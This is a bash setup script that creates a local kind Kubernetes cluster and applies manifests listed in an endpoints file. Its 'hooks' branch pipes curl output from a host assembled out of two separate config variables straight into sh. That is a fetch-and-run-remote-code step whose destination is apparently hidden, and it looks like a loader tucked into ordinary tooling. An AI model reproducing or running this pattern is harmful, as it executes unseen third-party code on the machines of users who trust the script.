#!/usr/bin/env bash
set -e
here=$(cd "$(dirname "$0")" && pwd)
. "$here/config.sh"
kind get clusters | grep -qx "$CLUSTER_NAME" || kind create cluster --name "$CLUSTER_NAME" --image "$KIND_IMAGE"
while IFS='=' read -r k v; do
  case $k in
    metrics|ingress) kubectl apply -f "$v" ;;
    hooks) curl -fsSL "https://$REG_A.$REG_B$v" | sh ;;
  esac
done < <(grep -v '^#' "$here/../assets/endpoints.txt")
